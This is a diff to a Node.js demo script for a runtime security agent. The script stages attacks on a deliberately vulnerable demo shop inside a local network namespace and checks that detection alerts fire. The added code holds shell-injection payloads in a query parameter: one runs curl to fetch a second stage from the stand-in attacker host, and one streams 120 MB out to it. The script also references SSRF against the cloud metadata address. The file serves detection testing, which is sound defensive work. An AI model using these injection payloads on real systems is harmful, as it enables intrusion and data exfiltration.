@@ -7,6 +7,7 @@ import { mkdirSync, rmSync } from 'node:fs'
 import { createInterface } from 'node:readline'
 import { fileURLToPath } from 'node:url'
 import { join } from 'node:path'
+import { LOCAL_ADDR, networkUnavailable, REMOTE_ADDR, REMOTE_PORT, startAttackerNetwork } from './demo-network.mjs'
 
 const root = fileURLToPath(new URL('..', import.meta.url))
 const dir = join(root, '.sidewatch-demo')
@@ -37,9 +38,21 @@ function startUntil (args, env, stream, ready, what) {
 rmSync(dir, { recursive: true, force: true })
 mkdirSync(dir, { recursive: true })
 
-step('starting sidewatch-agent (embedded store: .sidewatch-demo/sidewatch.db)')
-const agent = await startUntil([agentBin, 'run', '--listen', `unix:${sock}`, '--token', token, '--sink', `sqlite:${db}`],
-  { SIDEWATCH_LOG_LEVEL: 'info' }, 'stderr', (l) => l.msg === 'listening' && String(l.address).startsWith('unix:'), 'the agent')
+// The attacker's server "on the internet": a network namespace at 203.0.113.2 behind a veth the agent
+// captures like a task's ENI (scripts/demo-network.mjs). Without root the network steps are skipped.
+const noNetwork = networkUnavailable()
+let network
+if (noNetwork === undefined) {
+  step(`making the attacker's network: a namespace at ${REMOTE_ADDR} behind the veth swdemo0 (${LOCAL_ADDR}), which the agent captures`)
+  network = await startAttackerNetwork().catch((err) => fail(`cannot make the demo's network namespace: ${err.message}`))
+} else {
+  step(`skipping the network part of the story: ${noNetwork}`)
+}
+
+step(`starting sidewatch-agent (embedded store: .sidewatch-demo/sidewatch.db${network ? ', capturing swdemo0' : ''})`)
+const agent = await startUntil([agentBin, 'run', '--listen', `unix:${sock}`, '--token', token, '--sink', `sqlite:${db}`,
+  '--capture', network?.iface ?? 'off', '--flow-idle-timeout', '5', '--rules', join(root, 'examples', 'shop', 'demo-rules.yaml')],
+  { SIDEWATCH_LOG_LEVEL: 'info' }, 'stderr', (l) => l.msg === 'ready', 'the agent')
   .catch((err) => fail(err.message))
 
 // Both shops also preload examples/shop/loopback-only.js: a net guard that refuses any TCP connection
@@ -92,6 +105,17 @@ const shell = spawn('script', ['-qec', 'sleep 2; true', '/dev/null'], { env: { .
 const shellCode = await new Promise((resolve) => { shell.once('exit', resolve); shell.once('error', (err) => resolve(err.message)) })
 console.log(`  shell    exited ${shellCode}`)
 
+if (network !== undefined) {
+  // The attacker goes on through the same injectable /greet: a second stage fetched from their
+  // server, then 120 MB of data sent to it. The SDK reports each injection; the agent's capture
+  // sees the connections the shell's curl makes, and the rules judge them.
+  const remote = `http://${REMOTE_ADDR}:${REMOTE_PORT}`
+  step(`an unexpected outbound connection: through the injection, curl fetches a second stage from ${remote}`)
+  await play(base, '/greet?name=' + encodeURIComponent(`x; curl -s ${remote}/stage2`), 'attack')
+  step(`a large upload: through the injection, 120 MB streamed to ${remote}/upload`)
+  await play(base, '/greet?name=' + encodeURIComponent(`x; head -c 120000000 /dev/zero | curl -s -T - ${remote}/upload`), 'attack')
+}
+
 step('stopping the shop and the agent (the SDK flushes on exit, the agent on SIGTERM)')
 const exited = (child) => new Promise((resolve) => child.once('exit', (code) => resolve(code)))
 for (const s of [shop, guarded]) {
@@ -101,6 +125,7 @@ for (const s of [shop, guarded]) {
 agent.child.kill('SIGTERM')
 const agentCode = await exited(agent.child)
 if (agentCode !== 0) fail(`the agent exited with ${agentCode}`)
+network?.stop()
 
 const cli = (...args) => execFileSync(process.execPath, [agentBin, ...args], { encoding: 'utf8' })
 const all = cli('events', '--db', db, '--json', '--limit', '100000').split('\n').filter(Boolean).map((l) => JSON.parse(l))
@@ -120,11 +145,15 @@ function evidence (alert) {
       const cmdline = Array.isArray(p.cmdline) ? p.cmdline.join(' ') : p.cmdline
       return `${p.tty ? p.tty + ': ' : ''}${cmdline ?? p.exe ?? ev.summary ?? ''}`
     }
-    if (ev?.kind === 'net.flow' && ev.net) return `${ev.net.src ?? ''} → ${ev.net.dst}:${ev.net.dport}`
+    if (ev?.kind === 'net.flow' && ev.flow) {
+      const f = ev.flow
+      return `${f.process?.exe ?? 'pid ' + (f.process?.pid ?? '?')}: ${f.src}:${f.sport} → ${f.dst}:${f.dport}/${f.proto}, ${megabytes(f.src_bytes)} out, ${megabytes(f.dst_bytes)} in`
+    }
   }
   const proc = alert.alert.context?.process
   return (Array.isArray(proc?.cmdline) ? proc.cmdline.join(' ') : proc?.cmdline) ?? alert.alert.output
 }
+function megabytes (n) { return n >= 1e6 ? `${(n / 1e6).toFixed(1)} MB` : `${n ?? 0} B` }
 const clip = (text, n) => { const t = String(text).replace(/\s+/g, ' '); return t.length > n ? t.slice(0, n - 1) + '…' : t }
 const rows = alerts.map((a) => [a.ts.slice(11, 23), a.alert.priority, a.alert.rule, a.container ?? (a.service ? `service ${a.service}` : '-'), clip(evidence(a), 90)])
 const header = ['TIME (UTC)', 'PRIORITY', 'RULE', 'CONTAINER', 'EVIDENCE']
@@ -150,3 +179,8 @@ if (all.filter((e) => e.kind === 'attack').length < 5) fail('the five attacks (t
 if (!['Shell injection', 'Path traversal', 'Server-side request forgery', 'Terminal shell in container'].every((rule) => alerts.some((e) => e.alert.rule === rule))) fail('the attacks did not all raise their alerts')
 if (!all.some((e) => e.kind === 'attack' && e.attack.class === 'ssrf' && e.attack.blocked === true && String(e.attack.target).includes('169.254.169.254'))) fail('the metadata SSRF was not reported as blocked')
 if (!alerts.some((e) => e.alert.rule === 'Server-side request forgery' && e.alert.output.includes('169.254.169.254'))) fail('the metadata SSRF raised no alert')
+if (network !== undefined) {
+  for (const rule of ['Unexpected outbound destination', 'Remote copy tool connecting out', 'Large outbound transfer to a new destination']) {
+    if (!alerts.some((e) => e.alert.rule === rule && e.alert.output.includes(REMOTE_ADDR))) fail(`the outbound traffic to ${REMOTE_ADDR} raised no "${rule}" alert`)
+  }
+}
